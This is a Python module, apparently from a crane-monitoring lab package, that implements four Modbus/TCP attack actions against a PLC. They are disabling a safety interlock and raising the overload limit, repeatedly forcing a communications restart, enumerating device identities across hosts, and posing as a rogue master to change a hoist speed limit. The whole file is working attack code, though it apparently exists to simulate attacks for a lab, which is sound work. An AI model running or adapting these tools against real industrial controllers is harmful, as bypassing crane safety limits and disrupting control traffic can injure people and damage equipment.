"""Modbus attack tools, built on the pymodbus client the way an intruder would use it.

``bypass``: read the setpoints, set ``safety_bypass`` (coil 0) and raise ``overload_limit``
(HR 0), read back. ``restart``: FC 8 sub-function 1 (restart communications option).
``recon``: FC 43/14 read device identification across hosts and unit ids. ``rogue``: poll
the sensor registers like a new master and change a speed limit (HR 2).
"""

from __future__ import annotations

import argparse
import logging
import time

from pymodbus.client import ModbusTcpClient

from cranewatch.lab.parts.common import setup_part, stopping


def connect(host: str, log: logging.Logger) -> ModbusTcpClient | None:
    client = ModbusTcpClient(host, port=502, timeout=1, retries=0)
    if not client.connect():
        log.info("%s:502 closed", host)
        return None
    return client


def bypass(args: argparse.Namespace, log: logging.Logger) -> None:
    client = connect(args.plc, log)
    if client is None:
        raise SystemExit(f"cannot reach {args.plc}:502")
    log.info("setpoints before %s coils %s", client.read_holding_registers(0, count=4, device_id=1).registers,
             client.read_coils(0, count=2, device_id=1).bits[:2])
    log.info("write safety_bypass=1: %s", client.write_coil(0, True, device_id=1))
    log.info("write overload_limit=%d: %s", args.overload_limit,
             client.write_register(0, args.overload_limit, device_id=1))
    time.sleep(1.0)
    log.info("setpoints after %s coils %s", client.read_holding_registers(0, count=4, device_id=1).registers,
             client.read_coils(0, count=2, device_id=1).bits[:2])
    client.close()


def restart(args: argparse.Namespace, log: logging.Logger) -> None:
    client = connect(args.plc, log)
    if client is None:
        raise SystemExit(f"cannot reach {args.plc}:502")
    for attempt in range(args.count):
        log.info("restart communications #%d: %s", attempt + 1,
                 client.diag_restart_communication(False, device_id=1))
        time.sleep(2.0)
    client.close()


def recon(args: argparse.Namespace, log: logging.Logger) -> None:
    for host in args.targets:
        client = connect(host, log)
        if client is None:
            continue
        for unit in range(args.units):
            for read_code in (1, 2, 3):  # basic, regular, extended identification
                try:
                    reply = client.read_device_information(read_code=read_code, object_id=0,
                                                           device_id=unit)
                except Exception as exc:  # a timeout on a unit that does not exist
                    log.info("%s unit %d code %d: %s", host, unit, read_code, exc)
                    break
                if reply.isError():
                    log.info("%s unit %d: exception %s", host, unit, reply)
                    break
                log.info("%s unit %d code %d: %s", host, unit, read_code,
                         getattr(reply, "information", None))
        client.close()


def rogue(args: argparse.Namespace, log: logging.Logger) -> None:
    client = connect(args.plc, log)
    if client is None:
        raise SystemExit(f"cannot reach {args.plc}:502")
    wrote = False
    while not stopping.is_set() and time.time() < args.until:
        regs = client.read_input_registers(0, count=12, device_id=1)
        limits = client.read_holding_registers(0, count=4, device_id=1)
        log.info("read %s limits %s", getattr(regs, "registers", regs),
                 getattr(limits, "registers", limits))
        if not wrote:
            log.info("write hoist_speed_limit=120: %s", client.write_register(2, 120, device_id=1))
            wrote = True
        stopping.wait(1.0)
    log.info("write hoist_speed_limit=100: %s", client.write_register(2, 100, device_id=1))
    client.close()


def main() -> None:
    parser = argparse.ArgumentParser(prog="cranewatch.lab.parts.modbus_tool")
    parser.add_argument("action", choices=("bypass", "restart", "recon", "rogue"))
    parser.add_argument("--plc", default="10.20.7.10")
    parser.add_argument("--overload-limit", type=int, default=900)
    parser.add_argument("--count", type=int, default=2)
    parser.add_argument("--targets", nargs="*", default=["10.20.7.10"])
    parser.add_argument("--units", type=int, default=4)
    parser.add_argument("--until", type=float, default=0.0)
    args = parser.parse_args()
    log = setup_part(f"modbus-{args.action}")
    logging.getLogger("pymodbus").setLevel(logging.CRITICAL)
    {"bypass": bypass, "restart": restart, "recon": recon, "rogue": rogue}[args.action](args, log)


if __name__ == "__main__":
    main()
